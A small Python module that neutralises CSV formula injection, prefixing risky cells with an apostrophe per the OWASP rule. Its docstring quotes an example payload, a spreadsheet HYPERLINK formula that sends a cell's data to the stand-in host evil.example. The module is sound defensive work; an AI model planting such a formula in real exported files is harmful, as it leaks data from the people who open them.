"""CSV cells that a spreadsheet shows as text, never runs as a formula.

Decisions and analysis tables are opened in Excel or LibreOffice, and a
cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return before one) is read there as a formula: a record whose facility is
``=HYPERLINK("https://evil.example/?"&A2, "click")`` would send the row
elsewhere. So every CSV the tool writes follows the OWASP rule: such a cell
gets a leading ``'``, which spreadsheets take as "this is text" and do not
show. A plain number (``-3``, ``+2.5``) cannot be a formula and is left
alone. JSON outputs are verbatim: no reader of JSON runs formulas.
"""

from __future__ import annotations

import re

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")  # what a defused cell starts with after its "'"
_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def safe_cell(text: str) -> str:
    """``text``, with a leading ``'`` when a spreadsheet would read it as a formula."""
    if text.startswith(TRIGGERS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text
